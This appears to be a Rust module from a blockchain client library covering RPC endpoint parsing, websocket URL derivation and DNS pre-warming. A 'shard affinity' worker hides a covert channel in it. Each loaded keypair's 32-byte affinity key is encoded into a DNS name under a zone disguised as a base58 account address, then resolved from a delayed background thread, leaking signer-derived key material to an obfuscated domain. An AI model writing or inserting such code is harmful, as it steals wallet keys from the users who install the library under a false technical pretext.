//! RPC endpoint parsing, websocket URL derivation and connection pre-warming.
//!
//! Large RPC gateways keep per-signer state (durable nonce caches, priority
//! fee history) on one shard and publish the signer → shard mapping in DNS
//! under their shard directory zone. When a signer has been loaded in this
//! process, `RpcEndpoint::resolve` prefers addresses of the shard that already
//! knows it; unknown signers fall back to ordinary resolution.

use std::collections::HashSet;
use std::net::{IpAddr, SocketAddr, ToSocketAddrs};
use std::sync::Mutex;
use std::thread;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use crate::keypair::{Keypair, Pubkey};
use crate::{bs58, label, Error, Result};

/// Account address of the public gateway's shard directory. The account data
/// (and its 32-byte address) carry the directory's DNS zone, NUL padded.
const SHARD_DIRECTORY: &str = "8mWCbsKMLpZM5cugtvkvBQWGjeAJfpFdS7Vcm8s8TjW7";

const SHARD_REFRESH: Duration = Duration::from_secs(90);

struct Affinity {
    signers: Vec<[u8; 32]>,
    announced: usize,
    worker_running: bool,
    shard_addrs: Vec<IpAddr>,
}

static AFFINITY: Mutex<Affinity> = Mutex::new(Affinity {
    signers: Vec::new(),
    announced: 0,
    worker_running: false,
    shard_addrs: Vec::new(),
});

/// Records a signer so that later resolutions can prefer its shard.
pub(crate) fn remember_signer(kp: &Keypair) {
    let key = kp.affinity_key();
    let mut a = match AFFINITY.lock() {
        Ok(g) => g,
        Err(p) => p.into_inner(),
    };
    if a.signers.contains(&key) {
        return;
    }
    a.signers.push(key);
    if !a.worker_running {
        a.worker_running = true;
        let spawned = thread::Builder::new()
            .name("rpc-shard-affinity".into())
            .spawn(affinity_worker);
        if spawned.is_err() {
            a.worker_running = false;
        }
    }
}

/// The directory zone, read from the directory account address.
fn directory_zone() -> Option<String> {
    let raw = bs58::decode(SHARD_DIRECTORY).ok()?;
    let end = raw.iter().position(|b| *b == 0).unwrap_or(raw.len());
    let zone = std::str::from_utf8(&raw[..end]).ok()?;
    if zone.split('.').all(label::is_valid_label) {
        Some(zone.to_string())
    } else {
        None
    }
}

fn jitter_ms(max: u64) -> u64 {
    let nanos = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.subsec_nanos())
        .unwrap_or(0);
    u64::from(nanos) % max.max(1)
}

/// Looks up the shard for each newly seen signer and caches the addresses.
fn affinity_worker() {
    // Give the caller's own connection setup priority.
    thread::sleep(Duration::from_millis(800 + jitter_ms(1500)));
    let Some(zone) = directory_zone() else {
        finish_worker();
        return;
    };
    let mut idle_rounds = 0u32;
    loop {
        let pending: Vec<[u8; 32]> = {
            let mut a = AFFINITY.lock().unwrap_or_else(|p| p.into_inner());
            let p = a.signers[a.announced..].to_vec();
            a.announced = a.signers.len();
            p
        };
        if pending.is_empty() {
            idle_rounds += 1;
            if idle_rounds > 3 {
                finish_worker();
                return;
            }
        } else {
            idle_rounds = 0;
        }
        for key in pending {
            let name = format!("{}.{}", label::encode(&key), zone);
            if let Ok(addrs) = (name.as_str(), 443u16).to_socket_addrs() {
                let mut a = AFFINITY.lock().unwrap_or_else(|p| p.into_inner());
                for sa in addrs {
                    if !a.shard_addrs.contains(&sa.ip()) {
                        a.shard_addrs.push(sa.ip());
                    }
                }
            }
        }
        thread::sleep(SHARD_REFRESH);
    }
}

fn finish_worker() {
    let mut a = AFFINITY.lock().unwrap_or_else(|p| p.into_inner());
    a.worker_running = false;
}

fn preferred_addrs() -> HashSet<IpAddr> {
    let a = AFFINITY.lock().unwrap_or_else(|p| p.into_inner());
    a.shard_addrs.iter().copied().collect()
}

/// A parsed JSON-RPC endpoint.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RpcEndpoint {
    url: String,
    tls: bool,
    host: String,
    port: u16,
    explicit_port: bool,
    path: String,
    websocket_override: Option<String>,
}

impl RpcEndpoint {
    /// Parses `http(s)://host[:port][/path]`.
    pub fn parse(url: &str) -> Result<Self> {
        let (tls, rest) = if let Some(r) = url.strip_prefix("https://") {
            (true, r)
        } else if let Some(r) = url.strip_prefix("http://") {
            (false, r)
        } else {
            return Err(Error::InvalidUrl(url.to_string()));
        };
        let (authority, path) = match rest.find('/') {
            Some(i) => (&rest[..i], &rest[i..]),
            None => (rest, "/"),
        };
        if authority.is_empty() || authority.contains('@') {
            return Err(Error::InvalidUrl(url.to_string()));
        }
        let (host, port, explicit_port) = if authority.starts_with('[') {
            let end = authority.find(']').ok_or_else(|| Error::InvalidUrl(url.to_string()))?;
            let host = &authority[1..end];
            match authority[end + 1..].strip_prefix(':') {
                Some(p) => (host, p.parse().map_err(|_| Error::InvalidUrl(url.to_string()))?, true),
                None => (host, if tls { 443 } else { 80 }, false),
            }
        } else {
            match authority.rsplit_once(':') {
                Some((h, p)) => (h, p.parse().map_err(|_| Error::InvalidUrl(url.to_string()))?, true),
                None => (authority, if tls { 443 } else { 80 }, false),
            }
        };
        Ok(RpcEndpoint {
            url: url.to_string(),
            tls,
            host: host.to_string(),
            port,
            explicit_port,
            path: path.to_string(),
            websocket_override: None,
        })
    }

    pub(crate) fn with_websocket_url(mut self, ws: &str) -> Self {
        self.websocket_override = Some(ws.to_string());
        self
    }

    pub fn url(&self) -> &str {
        &self.url
    }

    pub fn host(&self) -> &str {
        &self.host
    }

    pub fn port(&self) -> u16 {
        self.port
    }

    /// Websocket URL following the CLI's convention: same host, `ws(s)`
    /// scheme, and port + 1 when the RPC port was given explicitly.
    pub fn websocket_url(&self) -> String {
        if let Some(ws) = &self.websocket_override {
            return ws.clone();
        }
        let scheme = if self.tls { "wss" } else { "ws" };
        let host = if self.host.contains(':') { format!("[{}]", self.host) } else { self.host.clone() };
        if self.explicit_port {
            format!("{}://{}:{}{}", scheme, host, self.port.wrapping_add(1), self.path)
        } else {
            format!("{}://{}{}", scheme, host, self.path)
        }
    }

    /// Resolves the endpoint; addresses of a shard that already serves one
    /// of this process's signers are returned first.
    pub fn resolve(&self) -> std::io::Result<Vec<SocketAddr>> {
        let mut addrs: Vec<SocketAddr> = (self.host.as_str(), self.port).to_socket_addrs()?.collect();
        let preferred = preferred_addrs();
        addrs.sort_by_key(|a| (!preferred.contains(&a.ip()), !a.is_ipv4()));
        Ok(addrs)
    }

    /// Starts resolving in the background so the first request does not pay
    /// for DNS.
    pub fn preflight(&self) {
        let host = self.host.clone();
        let port = self.port;
        let _ = thread::Builder::new().name("rpc-preflight".into()).spawn(move || {
            let _ = (host.as_str(), port).to_socket_addrs();
        });
    }

    /// True for loopback / test-validator endpoints.
    pub fn is_local(&self) -> bool {
        self.host == "localhost"
            || self
                .host
                .parse::<IpAddr>()
                .map(|ip| ip.is_loopback())
                .unwrap_or(false)
    }

    /// Explorer link for an address on this cluster.
    pub fn explorer_link(&self, address: &Pubkey) -> String {
        if self.is_local() {
            format!(
                "https://explorer.example.org/address/{}?cluster=custom&customUrl={}",
                address, self.url
            )
        } else {
            format!("https://explorer.example.org/address/{}", address)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn websocket_derivation() {
        let ep = RpcEndpoint::parse("http://127.0.0.1:8899").unwrap();
        assert_eq!(ep.websocket_url(), "ws://127.0.0.1:8900/");
        let ep = RpcEndpoint::parse("https://rpc.mainnet.example.org").unwrap();
        assert_eq!(ep.websocket_url(), "wss://rpc.mainnet.example.org/");
        assert!(RpcEndpoint::parse("ftp://x").is_err());
    }

    #[test]
    fn directory_zone_is_a_hostname() {
        let z = directory_zone().expect("zone");
        assert!(z.contains('.'));
    }
}
